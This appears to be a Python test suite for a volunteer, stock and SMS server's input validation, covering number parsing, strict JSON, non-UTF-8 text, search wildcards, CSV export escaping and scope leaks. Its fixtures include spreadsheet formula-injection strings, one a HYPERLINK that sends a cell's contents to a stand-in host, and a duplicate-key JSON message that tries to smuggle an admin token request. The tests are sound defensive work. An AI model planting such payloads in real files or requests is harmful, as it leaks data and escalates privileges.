"""Integrity of what comes in (issue 10): numbers that are not integers never name another record,
JSON is RFC 8259 and nothing more, text that is not UTF-8 never comes back out as broken JSON,
search patterns match what they say, CSV exports cannot run as spreadsheet formulas, uniqueness
and events reveal nothing out of scope, and the observatory's counts single nobody out. Every
refusal names the field and the rule and changes nothing in the database."""

import csv
import http.client
import io
import json
import urllib.parse
import unittest

import samples
from harness import ServerTest
from samples import ALBI, BEZIERS, CASTRES, MONTPELLIER
from sms_support import sms_server, twilio_post, wait_until

KANNEL_SECRET = "kannel-s3cret"
TWILIO_TOKEN = "twilio-t0ken"


class IntegrityTest(ServerTest):
    """A server with the SMS webhooks' secrets, its public_url fixed (Twilio signs it)."""

    settings = {"kannel_secret": KANNEL_SECRET, "twilio_auth_token": TWILIO_TOKEN, "test_clock": 1}

    @classmethod
    def new_server(cls):
        return sms_server(cls.settings)

    def raw(self, method, path, body=b"", headers=None):
        """(status, body bytes): for what the harness would parse, or bodies it cannot write."""
        conn = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=30)
        h = {"Authorization": "Bearer " + self.admin}
        h.update(headers or {})
        conn.request(method, path, body=body, headers=h)
        resp = conn.getresponse()
        data = resp.read()
        conn.close()
        return resp.status, data

    def refused(self, result, status, field, code, rule_part=None):
        st, body, _ = result
        self.assertEqual(st, status, body)
        err = body["error"]
        self.assertEqual((err.get("field"), err.get("code")), (field, code), body)
        if rule_part:
            self.assertIn(rule_part, err["rule"], body)
        return err

    def twilio(self, path, pairs):
        return twilio_post(self.server, TWILIO_TOKEN, path, pairs)


class WholeNumbers(IntegrityTest):
    """Item 1: an id, count or quantity that is not a whole number (or not only one) is refused,
    never rounded down to another record."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.s = cls.create_record("structures", samples.structure(commune=ALBI))
        cls.v = cls.create_record("volunteers", samples.volunteer())
        st, sent, _ = cls.server.http("POST", "/api/v1/sms/send", token=cls.admin,
                                      body={"to": samples.phone(), "text": "Bonjour"})
        assert st == 201, sent
        cls.sms_id = sent["id"]

    def report(self, line, key):
        body = {"holder_kind": "structure", "holder_id": self.s["id"], "items": [line]}
        return self.api("POST", "/api/v1/stock/reports", body=body, headers={"Idempotency-Key": key})

    def test_stock_report_item_and_quantity(self):
        for i, (line, field) in enumerate([({"item": 1.5, "quantity": 10}, "items[0].item"),
                                           ({"item": 1, "quantity": 10.5}, "items[0].quantity"),
                                           ({"item": -1, "quantity": 10}, "items[0].item"),
                                           ({"item": 1e300, "quantity": 10}, "items[0].item")]):
            with self.subTest(line=line), self.unchanged():
                rule = "must be a positive integer" if field.endswith("item") else "must be an integer from 0 to"
                self.refused(self.report(line, "frac-%d" % i), 422, field, "invalid", rule)
        with self.unchanged():
            self.refused(self.api("POST", "/api/v1/stock/reports", body={
                "holder_kind": "structure", "holder_id": self.s["id"] + 0.5, "items": [{"item": 1, "quantity": 1}]},
                headers={"Idempotency-Key": "frac-holder"}), 422, "holder_id", "invalid", "must be a positive integer")
        # the whole numbers still work, written as JSON allows
        st, body, _ = self.report({"item": 1.0, "quantity": 2e1}, "whole")
        self.assertEqual((st, body["levels"][0]["quantity"]), (201, 20), body)

    def test_movement_item(self):
        with self.unchanged():
            self.refused(self.api("POST", "/api/v1/stock/movements", body={
                "holder_kind": "structure", "holder_id": self.s["id"], "item": 3.7, "kind": "receipt", "quantity": 5, "origin": "purchase"},
                headers={"Idempotency-Key": "mv-frac"}), 422, "item", "invalid", "must be a positive integer")

    def test_sms_send_volunteer_id(self):
        for vid in (self.v["id"] + 0.5, 0, "1"):
            with self.subTest(volunteer_id=vid), self.unchanged():
                self.refused(self.api("POST", "/api/v1/sms/send", body={"volunteer_id": vid, "text": "Bonjour"}),
                             422, "volunteer_id", "invalid", "must be a positive integer")

    def test_kannel_dlr_reads_the_whole_value(self):
        rid = self.sms_id
        wait_until(lambda: self.server.sql("SELECT status FROM sms_outbox WHERE id = ?", (rid,))[0][0] == "sent",
                   10, what="the message sent")
        for query, field in (("id=%d.5&type=1" % rid, "id"), ("id=%dabc&type=1" % rid, "id"),
                             ("id=%d&type=16abc" % rid, "type"), ("id=%d&type=1.0" % rid, "type"),
                             ("id=+%d&type=1" % rid, "id"), ("id=0%d&type=1" % rid, "id"),
                             ("id=%%20%d&type=1" % rid, "id")):
            with self.subTest(query=query), self.unchanged():
                self.refused(self.server.http("GET", "/sms/kannel/dlr?secret=%s&%s" % (KANNEL_SECRET, query)),
                             422, field, "invalid")
        # a whole id still lands
        st, _, _ = self.server.http("GET", "/sms/kannel/dlr?secret=%s&id=%d&type=1" % (KANNEL_SECRET, rid))
        self.assertEqual(st, 200)
        self.assertEqual(self.server.sql("SELECT status FROM sms_outbox WHERE id = ?", (rid,)), [("delivered",)])

    def test_twilio_status_id(self):
        with self.unchanged():
            path = "/sms/twilio/status?id=%dabc" % self.sms_id
            self.refused(self.twilio(path, [("MessageSid", b"SM1"), ("MessageStatus", b"failed")]),
                         422, "id", "invalid", "must be a positive integer")

    def test_query_parameters(self):
        for path, field in (("/api/v1/thresholds?holder_kind=structure&holder_id=%dabc" % self.s["id"], "holder_id"),
                            ("/api/v1/thresholds?holder_kind=structure&holder_id=%d.0" % self.s["id"], "holder_id"),
                            ("/api/v1/structures?limit=10abc", "limit"), ("/api/v1/structures?limit=%2B5", "limit"),
                            ("/api/v1/structures?limit=%205", "limit"), ("/api/v1/structures?limit=05", "limit"),
                            ("/api/v1/structures?after=", "after"), ("/api/v1/stock/levels?offset=1e3", "offset"),
                            ("/api/v1/alerts?holder_id=1.5", "holder_id")):
            with self.subTest(path=path):
                self.refused(self.api("GET", path), 422, field, "invalid")

    def test_tokens_and_clock(self):
        with self.unchanged():
            self.refused(self.api("POST", "/api/v1/tokens", body={"role": "volunteer", "subject_id": self.v["id"] + 0.5}),
                         422, "subject_id", "invalid", "must be a positive integer")
            self.refused(self.api("POST", "/api/v1/clock/advance", body={"ms": 1.5}), 422, "ms", "invalid")
        p = self.server.run_cli("token", "create", "--role", "volunteer", "--subject", "%d.5" % self.v["id"],
                                check=False)
        self.assertEqual(p.returncode, 2, p.stderr)
        self.assertIn("--subject must be a positive integer", p.stderr)

    def test_csv_cells(self):
        for cell in ("12abc", "1.5", "+12", "012"):
            with self.subTest(capacity=cell), self.unchanged():
                csv_text = "name,category,legal_form,commune,capacity\nEHPAD Test,ehpad,association,%s,%s\n" % (ALBI, cell)
                st, body, _ = self.api("POST", "/api/v1/structures/import", raw=csv_text)
                err = self.refused((st, body, None), 422, "capacity", "invalid", "must be an integer from 0 to 20000")
                self.assertEqual(err["line"], 2)


class StrictJson(IntegrityTest):
    """Item 3: what RFC 8259 does not allow is refused (400 invalid_json, the byte named); a key
    given twice anywhere is refused naming it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # no occupancy: a capacity misread as 12 would be taken
        cls.s = cls.create_record("structures", samples.structure(commune=ALBI, occupancy=None))

    def test_number_forms(self):
        for text, part in (('{"capacity": 012}', "leading zero (near byte 13)"), ('{"capacity": 1.}', "after its point"),
                           ('{"capacity": .5}', "start with a digit"), ('{"capacity": +1}', "'+' sign"),
                           ('{"capacity": 1e}', "exponent"), ('{"capacity": -}', "after '-'"),
                           ('{"capacity": NaN}', "NaN"), ('{"capacity": 1e999}', "too large"),
                           ('{"capacity": 12.0000000000000001}', "too precise")):
            with self.subTest(text=text), self.unchanged():
                self.refused(self.api("PATCH", "/api/v1/structures/%d" % self.s["id"], raw=text, content_type="application/json"),
                             400, "body", "invalid_json", part)

    def test_strings(self):
        for text, part in ((b'{"name": "a\tb"}', "control character"), (b'{"name": "\xff\xfe"}', "not valid UTF-8"),
                           (b'{"name": "\\ud800"}', "lone surrogate"), (b'{"name": "\\x41"}', "unknown escape")):
            with self.subTest(text=text), self.unchanged():
                self.refused(self.api("POST", "/api/v1/items", raw=text, content_type="application/json"),
                             400, "body", "invalid_json", part)

    def test_csv_import_media_type(self):
        body = "name,category,legal_form,commune\nEHPAD CSV,ehpad,association,%s\n" % ALBI
        for ctype in ("text/csvx", "application/csv", "text/csv; charset=latin1", "text/plainx", "application/json"):
            with self.subTest(content_type=ctype), self.unchanged():
                self.refused(self.api("POST", "/api/v1/structures/import", raw=body, content_type=ctype),
                             415, "content-type", "unsupported_media_type")
        for i, ctype in enumerate(("TEXT/CSV; charset=UTF-8", "text/plain")):
            st, res, _ = self.api("POST", "/api/v1/structures/import", raw=body.replace("CSV", "CSV %d" % i),
                                  content_type=ctype)
            self.assertEqual((st, res.get("created")), (201, 1), res)

    def test_duplicate_keys_over_http(self):
        with self.unchanged():
            err = self.refused(self.api("POST", "/api/v1/stock/reports", raw=(
                '{"holder_kind": "structure", "holder_id": %d, "items": [{"item": 1, "quantity": 5, "quantity": 7}]}' % self.s["id"]),
                content_type="application/json", headers={"Idempotency-Key": "dup"}), 400, "body", "invalid_json")
            self.assertEqual(err["rule"], 'has the key "quantity" twice')

    def test_duplicate_type_in_websocket_envelope(self):
        w = self.server.ws(token=self.admin)
        try:
            with self.unchanged():
                w.send('{"type": "whoami", "id": 1, "type": "tokens.create", "data": {"role": "admin"}}')
                m = w.recv()
            self.assertEqual((m["type"], m["status"], m["error"]["code"], m["error"]["field"]),
                             ("error", 400, "invalid_json", "message"), m)
            self.assertEqual(m["error"]["rule"], 'has the key "type" twice')
            # the connection stays usable
            self.assertEqual(w.request("whoami")["status"], 200)
        finally:
            w.close()


class NeverBrokenJson(IntegrityTest):
    """Item 2 (errors): an error that names what the client sent never echoes bytes that are not
    UTF-8: they come back as U+FFFD, and the answer is valid JSON."""

    def strict_json(self, data):
        return json.loads(data.decode("utf-8", errors="strict"))

    def test_csv_header(self):
        with self.unchanged():
            st, data = self.raw("POST", "/api/v1/structures/import", b"\xff\xfe,name\nx,y\n", {"Content-Type": "text/csv"})
        err = self.strict_json(data)["error"]
        self.assertEqual((st, err["code"], err["field"], err["line"]), (422, "unknown_column", "\ufffd\ufffd", 1), err)

    def test_query_parameter_name(self):
        st, data = self.raw("GET", "/api/v1/structures?%FF%FE=1")
        err = self.strict_json(data)["error"]
        self.assertEqual((st, err["code"], err["field"]), (422, "unknown_field", "\ufffd\ufffd"), err)


class SmsNotUtf8(IntegrityTest):
    """Item 2 (SMS): a message whose gateway sent bytes that are not UTF-8 is kept, acted upon, and
    answered 200 (a refusal would be retried, or lose a STOP); sms.inbox shows the bad bytes as
    U+FFFD and flags the row, and stays valid JSON."""

    def inbox(self):
        st, data = self.raw("GET", "/api/v1/sms/inbox?limit=1000")
        self.assertEqual(st, 200)
        return json.loads(data.decode("utf-8", errors="strict"))["items"]

    def test_kannel_text_not_utf8(self):
        phone = samples.phone()
        st, body, _ = self.server.http("GET", "/sms/kannel/inbound?secret=%s&from=%s&to=38200&text=%%FF%%FE&id=k-ff"
                                       % (KANNEL_SECRET, urllib.parse.quote(phone)))
        self.assertEqual(st, 200, body)
        row = [r for r in self.inbox() if r["gateway_id"] == "k-ff"]
        self.assertEqual(len(row), 1)
        self.assertEqual((row[0]["text"], row[0]["invalid_utf8"], row[0]["phone"]), ("\ufffd\ufffd", True, phone))
        # sent again by Kannel: nothing happens twice
        with self.unchanged():
            st, _, _ = self.server.http("GET", "/sms/kannel/inbound?secret=%s&from=%s&to=38200&text=%%FF%%FE&id=k-ff"
                                        % (KANNEL_SECRET, urllib.parse.quote(phone)))
        self.assertEqual(st, 200)

    def test_stop_in_latin1_is_honoured(self):
        phone = samples.phone()
        st, _, _ = self.server.http("GET", "/sms/kannel/inbound?secret=%s&from=%s&to=38200&text=STOP%%20%%E9t%%E9"
                                    "&id=k-%%E9" % (KANNEL_SECRET, urllib.parse.quote(phone)))
        self.assertEqual(st, 200)
        row = [r for r in self.inbox() if r["phone"] == phone][0]
        self.assertEqual((row["text"], row["gateway_id"], row["keyword"], row["result"], row["invalid_utf8"]),
                         ("STOP \ufffdt\ufffd", "k-\ufffd", "stop", "opted out", True), row)
        self.assertEqual(self.server.sql("SELECT count(*) FROM sms_optouts WHERE phone = ?", (phone,)), [(1,)])

    def test_twilio_body_not_utf8(self):
        phone = samples.phone()
        st, body, _ = self.twilio("/sms/twilio/inbound", [("MessageSid", b"SMff"), ("From", phone.encode()),
                                                          ("To", b"+33639980000"), ("Body", b"Merci \xe0 vous")])
        self.assertEqual(st, 200, body)
        row = [r for r in self.inbox() if r["gateway_id"] == "SMff"][0]
        self.assertEqual((row["text"], row["invalid_utf8"]), ("Merci \ufffd vous", True), row)

    def test_a_row_stored_before_the_repair_is_answered_repaired(self):
        import sqlite3
        conn = sqlite3.connect(self.server.db, timeout=10)
        try:
            conn.execute("INSERT INTO sms_inbox(gateway, gateway_id, phone, text, received_at) VALUES "
                         "('kannel', 'k-legacy', '+33639981398', CAST(X'53544F50FF' AS TEXT), 1)")
            conn.commit()
        finally:
            conn.close()
        row = [r for r in self.inbox() if r["gateway_id"] == "k-legacy"][0]
        self.assertEqual((row["text"], row["invalid_utf8"]), ("STOP\ufffd", True), row)

    def test_utf8_text_is_not_flagged(self):
        phone = samples.phone()
        st, _, _ = self.server.http("GET", "/sms/kannel/inbound?secret=%s&from=%s&to=38200&text=%s&id=k-ok"
                                    % (KANNEL_SECRET, urllib.parse.quote(phone), urllib.parse.quote("Déjà là")))
        self.assertEqual(st, 200)
        row = [r for r in self.inbox() if r["gateway_id"] == "k-ok"][0]
        self.assertEqual((row["text"], row["invalid_utf8"]), ("Déjà là", False), row)


class SearchPatterns(IntegrityTest):
    """Item 4: q searches for the text it is given: % and _ are characters, not LIKE's wildcards."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.names = ["Pharmacie 100% Occitanie", "Foyer_Nord", "EHPAD Les Tilleuls", "Centre \\ Sud", "Maison 1000"]
        cls.ids = {n: cls.create_record("structures", samples.structure(name=n))["id"] for n in cls.names}

    def found(self, q):
        st, page, _ = self.api("GET", "/api/v1/structures?q=" + urllib.parse.quote(q, safe=""))
        self.assertEqual(st, 200, page)
        self.assertEqual(page["total"], len(page["items"]))
        return sorted(r["name"] for r in page["items"])

    def test_wildcards_are_literal(self):
        self.assertEqual(self.found("%"), ["Pharmacie 100% Occitanie"])
        self.assertEqual(self.found("_"), ["Foyer_Nord"])
        self.assertEqual(self.found("100%"), ["Pharmacie 100% Occitanie"])
        self.assertEqual(self.found("1_0"), [])
        self.assertEqual(self.found("\\"), ["Centre \\ Sud"])
        self.assertEqual(self.found("%%"), [])
        # a plain piece of the name still matches, without regard to ASCII case
        self.assertEqual(self.found("tilleuls"), ["EHPAD Les Tilleuls"])
        self.assertEqual(self.found("100"), ["Maison 1000", "Pharmacie 100% Occitanie"])

    def test_communes(self):
        for q in ("%", "_"):
            st, page, _ = self.api("GET", "/api/v1/communes?q=" + urllib.parse.quote(q, safe=""))
            self.assertEqual((st, page["items"]), (200, []), q)
        st, page, _ = self.api("GET", "/api/v1/communes?q=Albi")
        self.assertIn("81004", [c["insee"] for c in page["items"]])


class CsvFormulas(IntegrityTest):
    """Item 5: an exported text that a spreadsheet would run as a formula starts with a quote;
    importing the export gives back the very values."""

    FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Voir")', "+1+1", "-2+3", "@SUM(A1:A9)",
                "\uff1dCMD()", "'=kept quote"]

    def cells(self, text):
        return list(csv.DictReader(io.StringIO(text)))

    def fresh(self):
        srv = sms_server({})
        self.addCleanup(srv.cleanup)
        token = srv.token("admin")
        srv.start()
        self.addCleanup(srv.stop)
        return srv, token

    def test_structures_export_neutralised_and_round_trip(self):
        made = [self.create_record("structures", samples.structure(
            name=f, contacts=[{"name": f, "phone": samples.phone(), "lang": "fr"}])) for f in self.FORMULAS]
        ids = {m["id"] for m in made}
        st, text, _ = self.api("GET", "/api/v1/structures/export")
        self.assertEqual(st, 200)
        rows = [r for r in self.cells(text) if int(r["id"]) in ids]
        self.assertEqual(len(rows), len(self.FORMULAS))
        for r, f in zip(sorted(rows, key=lambda r: int(r["id"])), self.FORMULAS):
            self.assertEqual(r["name"], "'" + f)
            self.assertEqual(r["contact_name"], "'" + f)
            self.assertEqual(r["contact_phone"][:2], "'+")   # E.164 numbers start with +
            self.assertNotEqual(r["lng"][:1], "'")  # numbers are written as they are
        # the file imports back to the same values
        other, token = self.fresh()
        only = "\r\n".join([text.split("\r\n")[0]] + [l for l in text.split("\r\n")[1:] if l and int(l.split(",")[0]) in ids]) + "\r\n"
        st, res, _ = other.http("POST", "/api/v1/structures/import", token=token, raw=only, content_type="text/csv")
        self.assertEqual((st, res.get("created")), (201, len(self.FORMULAS)), res)
        st, back, _ = other.http("GET", "/api/v1/structures/export?format=json", token=token)
        self.assertEqual([(b["name"], b["contacts"][0]["name"], b["contacts"][0]["phone"]) for b in back["items"]],
                         [(m["name"], m["contacts"][0]["name"], m["contacts"][0]["phone"]) for m in made])

    def test_volunteers_export_neutralised_and_round_trip(self):
        made = [self.create_record("volunteers", samples.volunteer(first_name=f, last_name="-" + f, skills=["-x", "y"]))
                for f in self.FORMULAS[:4]]
        st, text, _ = self.api("GET", "/api/v1/volunteers/export")
        rows = {int(r["id"]): r for r in self.cells(text)}
        for m in made:
            r = rows[m["id"]]
            self.assertEqual((r["first_name"][:1], r["last_name"][:2], r["phone"][:2], r["skills"]),
                             ("'", "'-", "'+", "'-x;y"), r)
        other, token = self.fresh()
        lines = text.split("\r\n")
        only = "\r\n".join([lines[0]] + [l for l in lines[1:] if l and int(l.split(",")[0]) in rows and
                                          int(l.split(",")[0]) in {m["id"] for m in made}]) + "\r\n"
        st, res, _ = other.http("POST", "/api/v1/volunteers/import", token=token, raw=only, content_type="text/csv")
        self.assertEqual((st, res.get("created")), (201, len(made)), res)
        st, back, _ = other.http("GET", "/api/v1/volunteers/export?format=json", token=token)
        self.assertEqual([(b["first_name"], b["last_name"], b["phone"], b["skills"]) for b in back["items"]],
                         [(m["first_name"], m["last_name"], m["phone"], m["skills"]) for m in made])


class DutyOfficerEvents(IntegrityTest):
    """Item 7: duty officers' events reach those who may read the officer: never observers, and a
    region-wide officer's (dep null) only region-wide coordinators (and admins)."""

    @classmethod
    def prepare(cls, server):
        super().prepare(server)
        cls.tokens = {"region": server.token("coordinator", scope="region"), "c81": server.token("coordinator", scope="81"),
                      "c34": server.token("coordinator", scope="34"), "obs": server.token("observer", scope="region"),
                      "obs81": server.token("observer", scope="81"), "admin": cls.admin}

    def events_until_marker(self, w, marker_id):
        seen = []
        while True:
            m = w.next_event(timeout=10)
            if m["event"] == "item.created" and m["entity_id"] == marker_id:
                return seen
            seen.append((m["event"], m["entity_id"]))

    def test_who_gets_which_officer(self):
        conns = {}
        try:
            for name, token in self.tokens.items():
                conns[name] = self.server.ws(token=token)
                self.assertEqual(conns[name].request("subscribe", params={"topics": ["*"]})["status"], 200)
            regional = self.create_record("duty_officers", {"name": "Astreinte régionale", "phone": samples.phone(),
                                                            "dep": None})
            tarn = self.create_record("duty_officers", {"name": "Astreinte du Tarn", "phone": samples.phone(), "dep": "81"})
            st, _, _ = self.api("PATCH", "/api/v1/duty_officers/%d" % regional["id"], body={"lang": "en"})
            self.assertEqual(st, 200)
            st, _, _ = self.api("DELETE", "/api/v1/duty_officers/%d" % regional["id"])
            self.assertEqual(st, 200)
            marker = self.create_record("items", samples.item())  # region-wide: everyone in scope gets it
            seen = {name: [e for e in self.events_until_marker(w, marker["id"]) if e[0].startswith("duty_officer.")]
                    for name, w in conns.items()}
        finally:
            for w in conns.values():
                w.close()
        r, t = regional["id"], tarn["id"]
        everything = [("duty_officer.created", r), ("duty_officer.created", t), ("duty_officer.updated", r),
                      ("duty_officer.deleted", r)]
        self.assertEqual(seen["admin"], everything)
        self.assertEqual(seen["region"], everything)
        self.assertEqual(seen["c81"], [("duty_officer.created", t)])
        self.assertEqual(seen["c34"], [])
        self.assertEqual(seen["obs"], [])
        self.assertEqual(seen["obs81"], [])
        # what the events follow: the officers each may read
        for name, ids in (("c81", [t]), ("c34", [])):
            st, page, _ = self.api("GET", "/api/v1/duty_officers", token=self.tokens[name])
            self.assertEqual([o["id"] for o in page["items"]], ids)


class PoolCounts(IntegrityTest):
    """Item 8: volunteers.stats gives the observatory no group of fewer than stats_min_count (5)
    people: the gender split goes first, then the count (null, "suppressed": true). Coordinators,
    who may list the people themselves, get exact counts."""

    MENDE = "48095"

    @classmethod
    def prepare(cls, server):
        super().prepare(server)
        cls.obs = server.token("observer", scope="region")
        cls.obs81 = server.token("observer", scope="81")
        cls.coord = server.token("coordinator", scope="region")

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.create_record("volunteers", samples.volunteer(profession="midwife", gender="male", home_commune=cls.MENDE))
        for _ in range(6):
            cls.create_record("volunteers", samples.volunteer(profession="nurse", gender="female", home_commune=ALBI))
        cls.create_record("volunteers", samples.volunteer(profession="nurse", gender="male", home_commune=ALBI))
        for _ in range(5):
            cls.create_record("volunteers", samples.volunteer(profession="driver", home_commune=CASTRES))

    def stats(self, token):
        st, body, _ = self.api("GET", "/api/v1/volunteers/stats", token=token)
        self.assertEqual(st, 200, body)
        return body.get("min_count"), {(g["dep"], g["profession"], g["availability"], g["gender"]):
                                       (g["count"], g.get("suppressed")) for g in body["groups"]}

    def test_observer_sees_no_small_group(self):
        min_count, groups = self.stats(self.obs)
        for count, _ in groups.values():
            self.assertTrue(count is None or count >= 5, groups)
        self.assertEqual(min_count, 5)
        self.assertEqual(groups, {
            ("48", "midwife", "available", "*"): (None, True),     # the one midwife of Lozère
            ("81", "nurse", "available", "*"): (7, False),         # one man among seven: no split
            ("81", "driver", "available", None): (5, False),       # five, gender not given: as it is
        })
        min_count, groups = self.stats(self.obs81)
        self.assertEqual(sorted(groups), [("81", "driver", "available", None), ("81", "nurse", "available", "*")])

    def test_coordinator_counts_are_exact(self):
        min_count, groups = self.stats(self.coord)
        self.assertEqual(min_count, 1)
        self.assertEqual(groups, {
            ("48", "midwife", "available", "male"): (1, False),
            ("81", "nurse", "available", "female"): (6, False),
            ("81", "nurse", "available", "male"): (1, False),
            ("81", "driver", "available", None): (5, False),
        })


class PhoneUniqueness(IntegrityTest):
    """Item 6: a phone is unique among the volunteers the writer may read. A number held outside
    the writer's scope answers exactly like a free one (no 409 to test whether someone somewhere
    has it); within the scope, the 409 stays."""

    @classmethod
    def prepare(cls, server):
        super().prepare(server)
        cls.c81 = server.token("coordinator", scope="81")
        cls.region = server.token("coordinator", scope="region")

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.v34 = cls.create_record("volunteers", samples.volunteer(home_commune=BEZIERS, sms_lang="en"))
        cls.v81 = cls.create_record("volunteers", samples.volunteer(home_commune=ALBI))
        cls.other81 = cls.create_record("volunteers", samples.volunteer(home_commune=CASTRES))
        st, tok, _ = cls.server.http("POST", "/api/v1/tokens", token=cls.admin,
                                     body={"role": "volunteer", "subject_id": cls.v81["id"]})
        assert st == 201, tok
        cls.self81 = tok["token"]

    def test_coordinator_of_another_departement_learns_nothing(self):
        # a number of Hérault, and a number nobody has: the same answer
        taken = self.api("POST", "/api/v1/volunteers", token=self.c81,
                         body=samples.volunteer(phone=self.v34["phone"], home_commune=ALBI))
        free = self.api("POST", "/api/v1/volunteers", token=self.c81, body=samples.volunteer(home_commune=ALBI))
        self.assertEqual((taken[0], free[0]), (201, 201), (taken[1], free[1]))
        self.assertEqual(sorted(taken[1]), sorted(free[1]))
        self.assertEqual(taken[1]["phone"], self.v34["phone"])
        # moving one of its volunteers onto another number of Hérault: likewise
        v34b = self.create_record("volunteers", samples.volunteer(home_commune=MONTPELLIER))
        st, moved, _ = self.api("PATCH", "/api/v1/volunteers/%d" % free[1]["id"], token=self.c81,
                                body={"phone": v34b["phone"]})
        self.assertEqual((st, moved.get("phone")), (200, v34b["phone"]), moved)
        # but not onto the number it has just given in its own territory
        with self.unchanged():
            self.refused(self.api("PATCH", "/api/v1/volunteers/%d" % free[1]["id"], token=self.c81,
                                  body={"phone": self.v34["phone"]}), 409, "phone", "conflict")
        # within its own territory the number is still unique, and said so
        with self.unchanged():
            self.refused(self.api("POST", "/api/v1/volunteers", token=self.c81,
                                  body=samples.volunteer(phone=self.other81["phone"], home_commune=ALBI)),
                         409, "phone", "conflict", "is already registered")
        # a regional coordinator reads both départements: the 409 is no news to them
        with self.unchanged():
            self.refused(self.api("POST", "/api/v1/volunteers", token=self.region,
                                  body=samples.volunteer(phone=self.v34["phone"], home_commune=MONTPELLIER)),
                         409, "phone", "conflict")

    def test_volunteer_token_learns_nothing(self):
        for phone in (self.v34["phone"], self.other81["phone"], samples.phone()):
            with self.subTest(phone=phone):
                st, me, _ = self.api("PATCH", "/api/v1/volunteers/%d" % self.v81["id"], token=self.self81,
                                     body={"phone": phone})
                self.assertEqual((st, me.get("phone")), (200, phone), me)

    def test_an_sms_answers_for_every_volunteer_of_its_phone(self):
        shared = samples.phone()
        a = self.create_record("volunteers", samples.volunteer(phone=shared, home_commune=BEZIERS, availability="unavailable"))
        st, b, _ = self.api("POST", "/api/v1/volunteers", token=self.c81,
                            body=samples.volunteer(phone=shared, home_commune=ALBI, availability="unavailable"))
        self.assertEqual(st, 201, b)
        st, _, _ = self.server.http("GET", "/sms/kannel/inbound?secret=%s&from=%s&to=38200&text=DISPO&id=k-shared"
                                    % (KANNEL_SECRET, urllib.parse.quote(shared)))
        self.assertEqual(st, 200)
        for v in (a, b):
            st, got, _ = self.api("GET", "/api/v1/volunteers/%d" % v["id"])
            self.assertEqual(got["availability"], "available", got)


if __name__ == "__main__":
    unittest.main()
